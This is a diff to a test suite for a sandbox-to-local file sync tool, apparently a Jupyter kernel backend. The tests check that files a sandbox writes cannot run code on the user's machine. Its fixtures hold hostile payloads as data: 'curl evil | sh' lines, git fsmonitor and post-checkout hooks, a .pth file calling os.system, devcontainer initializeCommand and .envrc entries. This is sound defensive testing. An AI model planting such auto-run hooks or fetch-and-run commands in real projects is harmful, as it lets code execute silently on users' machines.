@@ -16,6 +16,7 @@ import os
 import random
 import stat
 import subprocess
+import sys
 import threading
 import uuid
 from pathlib import Path
@@ -51,12 +52,12 @@ class HostileSandbox(LocalSandbox):
         st = path.stat()
         return [st.st_size, st.st_mtime_ns]
 
-    async def download(self, paths: list[str]) -> dict[str, Any]:
+    async def download(self, paths: list[str], limits: dict[str, int] | None = None) -> dict[str, Any]:
         self.downloaded += paths
         out: dict[str, Any] = {}
         rest = [p for p in paths if p not in self.served]
         if rest:
-            out.update(await super().download(rest))
+            out.update(await super().download(rest, limits))
         for p in paths:
             if p in self.served:
                 value = self.served[p]
@@ -144,7 +145,7 @@ def test_reported_editor_settings_that_could_run_code_here_are_not_written(folde
     container = sandbox.put(".devcontainer/devcontainer.json", b'{"initializeCommand": "curl evil | sh"}')
     result = pull(mirror_of(folder, sandbox, config), report({".vscode/settings.json": settings, ".devcontainer/devcontainer.json": container}))
     assert not (folder / ".vscode").exists() and not (folder / ".devcontainer").exists()
-    assert "editor settings could run code here" in result.notices()
+    assert "it could run code here: .devcontainer/ holds files that editors" in result.notices()
 
 
 def test_reported_path_under_an_excluded_folder_is_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
@@ -728,3 +729,239 @@ def test_the_local_backend_removes_its_input_inboxes_at_shutdown(tmp_path: Path)
         assert run.text() == "ada\n"
     assert glob.glob(os.path.join(tmp, pattern), recursive=True) == []
     assert glob.glob(str(local_root() / pattern), recursive=True) == []
+
+
+# -- the valve: nothing the sandbox writes may run here (issue 20, items 1-3, 6, 7) -----------------------
+
+
+def user_project(folder: Path) -> None:
+    """A project shaped like a user's: a .venv (ignored by default), an env/ venv no default knows, a conda
+    env, a bare git repository, a notebook, a private file and a helper module."""
+    for env in (".venv", "env"):
+        (folder / env / "lib" / "python3.12" / "site-packages").mkdir(parents=True)
+        (folder / env / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (folder / "conda" / "conda-meta").mkdir(parents=True)
+    (folder / "conda" / "lib").mkdir()
+    for sub in ("objects", "refs/heads"):
+        (folder / "vendored.git" / sub).mkdir(parents=True)
+    (folder / "vendored.git" / "HEAD").write_text("ref: refs/heads/main\n")
+    (folder / "nb.ipynb").write_text("{}")
+    (folder / "priv.txt").write_text("mine")
+    (folder / "priv.txt").chmod(0o600)
+    (folder / "helpers.py").write_text("def f(): return 1\n")
+
+
+CODE_DOWN = {
+    # 1: Python environments, whatever their name, and the files every interpreter runs
+    ".venv/lib/python3.12/site-packages/zz.pth": b"import os; os.system('touch /tmp/pwned')\n",
+    ".venv/lib/python3.12/site-packages/evil.py": b"print('pwned')\n",
+    "env/lib/python3.12/site-packages/zz.pth": b"import evil\n",
+    "env/bin/activate": b"curl evil | sh\n",
+    "conda/lib/python3.12/site-packages/x.py": b"pwned\n",
+    "newenv/pyvenv.cfg": b"home = /tmp/evil\n",
+    "newenv/bin/python": b"#!/bin/sh\ncurl evil | sh\n",
+    "sub/sitecustomize.py": b"pwned\n",
+    "USERCUSTOMIZE.PY": b"pwned\n",
+    "deep/er/a.pth": b"pwned\n",
+    "__pycache__/helpers.cpython-312.pyc": b"\x00pwned",
+    "helpers.cpython-312-x86_64-linux-gnu.so": b"\x7fELF",
+    "lib/site-packages/y.py": b"pwned\n",
+    # 2: a folder git would take for a repository, under any name
+    "evil/HEAD": b"ref: refs/heads/evil\n",
+    "evil/objects/ab/cdef": b"x",
+    "evil/refs/heads/main": b"0" * 40,
+    "evil/config": b"[core]\n\tfsmonitor = curl evil | sh\n",
+    "vendored.git/config": b"[core]\n\tfsmonitor = curl evil | sh\n",
+    "vendored.git/hooks/post-checkout": b"#!/bin/sh\ncurl evil | sh\n",
+    # 3: editor and tool files that run on open
+    ".devcontainer.json": b'{"initializeCommand": "curl evil | sh"}',
+    "proj.code-workspace": b'{"tasks": {"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}}',
+    ".vscode/tasks.json": b"{}",
+    ".idea/workspace.xml": b"<project/>",
+    ".envrc": b"curl evil | sh\n",
+    ".env": b"PYTHONSTARTUP=evil.py\n",
+    ".pre-commit-config.yaml": b"repos: []\n",
+    ".claude/settings.json": b'{"hooks": {}}',
+    ".mcp.json": b'{"mcpServers": {}}',
+    "sub/.exrc": b"!curl evil | sh\n",
+    ".dir-locals.el": b"((nil . ((eval . (shell-command \"curl evil\")))))\n",
+    ".npmrc": b"node-options=--require ./evil.js\n",
+}
+WIDENING_GITIGNORE = b"!.venv/\n!.venv/**\n!*.pyc\n!__pycache__/\n!.env\n!*\n"
+
+
+def test_code_the_sandbox_writes_never_comes_down_whatever_its_gitignore_says(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    user_project(folder)
+    config.sync_include = [".env", ".npmrc"]  # even a secret the user lets through both ways: not this one
+    mirror = mirror_of(folder, sandbox, config)
+    widening = pull(mirror, report({".gitignore": sandbox.put(".gitignore", WIDENING_GITIGNORE)}))  # a first cell
+    assert widening.down == [".gitignore"]  # it re-includes .venv/, __pycache__/, *.pyc ... here
+    changes = {rel: sandbox.put(rel, content) for rel, content in CODE_DOWN.items()}
+    changes["refs/paper.bib"] = sandbox.put("refs/paper.bib", b"@article{x}")  # data in a folder named refs: fine
+    changes["results/table.csv"] = sandbox.put("results/table.csv", b"1,2\n")
+    result = pull(mirror, report(changes))
+    for rel in CODE_DOWN:
+        assert not any(p.name == rel.rsplit("/", 1)[-1] and p.is_file() and p.read_bytes() == CODE_DOWN[rel] for p in folder.rglob("*")), rel
+    assert (folder / "results" / "table.csv").read_bytes() == b"1,2\n" and (folder / "refs" / "paper.bib").exists()
+    assert sorted(result.down) == ["refs/paper.bib", "results/table.csv"]
+    notices = result.notices()
+    for rel in (".venv/lib/python3.12/site-packages/zz.pth", "evil/config", ".devcontainer.json", "env/bin/activate", "USERCUSTOMIZE.PY"):
+        assert f"Refused a path the sandbox reported: {rel}: it could run code here" in notices, rel
+    assert set(mirror.handover()["acked"]) == {".gitignore", *changes}  # decided: not reported again after every cell
+
+
+def test_the_sandbox_cannot_delete_code_or_a_notebook_here(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    config.sync_deletes = True
+    user_project(folder)
+    (folder / ".pre-commit-config.yaml").write_text("repos: []\n")
+    (folder / "old.csv").write_text("old")
+    mirror = mirror_of(folder, sandbox, config)
+    asyncio.run(mirror.push())
+    result = pull(mirror, report({}, deleted=["nb.ipynb", "env/pyvenv.cfg", ".pre-commit-config.yaml", "old.csv"]))
+    assert (folder / "nb.ipynb").exists() and (folder / "env" / "pyvenv.cfg").exists()
+    assert (folder / ".pre-commit-config.yaml").exists()
+    assert not (folder / "old.csv").exists() and result.deleted == ["old.csv"]
+    assert "nb.ipynb" in result.notices()
+
+
+def test_an_existing_conflict_copy_is_never_overwritten(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    (folder / "data.csv").write_text("base")
+    mirror = mirror_of(folder, sandbox, config)
+    asyncio.run(mirror.push())
+    (folder / "data.csv").write_text("my edit")  # changed here ...
+    first = pull(mirror, report({"data.csv": sandbox.put("data.csv", b"sandbox 1")}))  # ... and there
+    assert first.conflicts == [("data.csv", "data.sandbox-conflict.csv")]
+    (folder / "data.sandbox-conflict.csv").write_text("I merged by hand here")  # the user works in the copy
+    second = pull(mirror, report({"data.csv": sandbox.put("data.csv", b"sandbox 2, longer")}))
+    assert (folder / "data.sandbox-conflict.csv").read_text() == "I merged by hand here"
+    assert (folder / "data.csv").read_text() == "my edit"
+    [(_, copy)] = second.conflicts
+    assert copy != "data.sandbox-conflict.csv" and (folder / copy).read_bytes() == b"sandbox 2, longer"
+
+
+def test_modes_from_the_sandbox_only_narrow(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    for name, mode in (("priv.txt", 0o600), ("tool.sh", 0o700), ("shared.txt", 0o640)):
+        (folder / name).write_text("same")
+        (folder / name).chmod(mode)
+    mirror = mirror_of(folder, sandbox, config)
+    asyncio.run(mirror.push())
+    changes = {
+        "priv.txt": sandbox.put("priv.txt", b"same", 0o666) + [0o666],  # only the mode changed there
+        "tool.sh": sandbox.put("tool.sh", b"new content", 0o777) + [0o777],
+        "shared.txt": sandbox.put("shared.txt", b"same", 0o400) + [0o400],  # narrower: applied
+    }
+    pull(mirror, report(changes))
+    assert stat.S_IMODE((folder / "priv.txt").stat().st_mode) == 0o600
+    assert stat.S_IMODE((folder / "tool.sh").stat().st_mode) == 0o700 and (folder / "tool.sh").read_text() == "new content"
+    assert stat.S_IMODE((folder / "shared.txt").stat().st_mode) == 0o400
+
+
+def test_a_file_that_grows_after_its_report_costs_no_memory_and_is_not_written(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    import tracemalloc
+
+    reported = sandbox.put("small.bin", b"tiny")
+    with open(Path(sandbox.workdir) / "small.bin", "wb") as f:  # 64 MB after the report said 4 bytes
+        f.truncate(64 * 1024 * 1024)
+    tracemalloc.start()
+    try:
+        result = pull(mirror_of(folder, sandbox, config), report({"small.bin": reported}))
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert not (folder / "small.bin").exists() and "more than the sandbox reported" in result.notices()
+    assert peak < 8 * 1024 * 1024, f"the kernel held {peak / 1e6:.0f} MB for a file reported as 4 bytes"
+
+
+def test_the_total_is_counted_from_the_bytes_received(folder: Path, sandbox: HostileSandbox, config) -> None:  # type: ignore[no-untyped-def]
+    config.sync_max_total_mb = 0.1  # about 100 KB a sync
+    changes = {}
+    for i in range(10):  # each reported as 4 bytes, each 40 KB when downloaded
+        changes[f"f{i}.bin"] = sandbox.put(f"f{i}.bin", b"tiny")
+        (Path(sandbox.workdir) / f"f{i}.bin").write_bytes(b"z" * 40_000)
+    result = pull(mirror_of(folder, sandbox, config), report(changes))
+    written = sum(p.stat().st_size for p in folder.rglob("*") if p.is_file())
+    assert written <= 0.1 * 1024 * 1024 and result.bytes_down == written
+
+
+HOSTILE_CELL = """
+import os, sys
+site = '.venv/lib/VERSION/site-packages'  # the local .venv's Python
+def put(path, text, mode=None):
+    os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
+    with open(path, 'w') as f:
+        f.write(text)
+    if mode is not None:
+        os.chmod(path, mode)
+put(site + '/zz.pth', 'import os; open(MARK, "w").write("pwned")\\n')
+put('env/lib/python3.12/site-packages/zz.pth', 'import os\\n')
+put('sitecustomize.py', 'pwned\\n')
+put('evil/HEAD', 'ref: refs/heads/main\\n')
+put('evil/objects/ab/cd', 'x')
+put('evil/refs/heads/main', '0' * 40)
+put('evil/config', '[core]\\n\\tfsmonitor = touch MARK\\n')
+put('.devcontainer.json', '{"initializeCommand": "touch MARK"}')
+put('proj.code-workspace', '{}')
+put('.envrc', 'touch MARK\\n')
+put('results/table.csv', '1,2\\n')
+os.chmod('priv.txt', 0o666)
+os.remove('nb.ipynb')
+"""
+
+
+@pytest.mark.parametrize("with_git", [True, False], ids=["git", "no-git"])
+def test_a_hostile_cell_cannot_put_code_on_this_machine(kernel_name: str, tmp_path: Path, with_git: bool) -> None:
+    """Issue 20, items 1-3, 6, 7 end to end, in a project shaped like a user's: a real .venv inside it, an env/
+    venv with no .gitignore, a notebook and a private file; with and without git."""
+    project = tmp_path / "project"
+    project.mkdir()
+    if with_git:
+        subprocess.run(["git", "init", "-q", str(project)], check=True)
+    subprocess.run([sys.executable, "-m", "venv", "--without-pip", str(project / ".venv")], check=True)
+    (project / "env").mkdir()
+    (project / "env" / "pyvenv.cfg").write_text("home = /usr/bin\n")
+    (project / "nb.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
+    (project / "priv.txt").write_text("mine")
+    (project / "priv.txt").chmod(0o600)
+    env = {"DAYTONA_KERNEL_SYNC_DELETES": "true", "JPY_SESSION_NAME": "nb.ipynb"}
+    version = f"python{sys.version_info[0]}.{sys.version_info[1]}"
+    with Kernel(kernel_name, cwd=str(project), env=env) as k:
+        first = k.execute("open('.gitignore', 'w').write('!.venv/\\n!.venv/**\\n!*\\n')")  # re-include the .venv
+        assert first.status == "ok", first.errors
+        run = k.execute(HOSTILE_CELL.replace("VERSION", version))
+        assert run.status == "ok", run.errors
+        notices = run.text("stderr")
+    assert (project / "results" / "table.csv").read_text() == "1,2\n"  # data comes back
+    for rel in (f".venv/lib/{version}/site-packages/zz.pth", "env/lib/python3.12/site-packages/zz.pth", "sitecustomize.py",
+                "evil", ".devcontainer.json", "proj.code-workspace", ".envrc"):  # fmt: skip
+        assert not (project / rel).exists(), rel
+    assert f"Refused a path the sandbox reported: .venv/lib/{version}/site-packages/zz.pth: it could run code here" in notices
+    assert "evil/config: it could run code here: evil/ is a git repository" in notices
+    assert stat.S_IMODE((project / "priv.txt").stat().st_mode) == 0o600  # modes only narrow
+    assert (project / "nb.ipynb").exists() and "nb.ipynb: not deleted here" in notices
+    assert subprocess.run([str(project / ".venv" / "bin" / "python"), "-c", "pass"], check=False).returncode == 0
+
+
+def test_on_daytona_a_file_bigger_than_reported_is_stopped_and_not_written(daytona_env, folder: Path, config) -> None:  # type: ignore[no-untyped-def]
+    """The Daytona backend streams a limited download into a private temporary file (the SDK's own streaming),
+    measures what arrives and stops at the limit: the report's size is never trusted."""
+    from daytona_kernel.backends.daytona import DaytonaSandbox
+    from daytona_kernel.config import DaytonaSettings
+
+    config.backend = "daytona"
+    config.sandbox_policy = "ephemeral"
+
+    async def go() -> Any:
+        box = DaytonaSandbox(settings_from(DaytonaSettings, config), f"hostile-{uuid.uuid4().hex[:8]}", "k")
+        await box.start(lambda text: None)
+        try:
+            mirror = WorkdirMirror(str(folder), box, config, folder.parent / "m.json", log)
+            await box.upload([(b"z" * 8_000_000, mirror.remote_path("grew.bin")), (b"fine", mirror.remote_path("ok.txt"))])
+            return await mirror.pull(report({"grew.bin": [4, 1], "ok.txt": [4, 1]}))
+        finally:
+            await box.shutdown()
+
+    result = asyncio.run(go())
+    assert not (folder / "grew.bin").exists(), result.notices()
+    assert (folder / "ok.txt").read_bytes() == b"fine", result.notices()
+    assert "grew.bin: it is more than the sandbox reported (4 B)" in result.notices()
+    assert result.bytes_down == 4
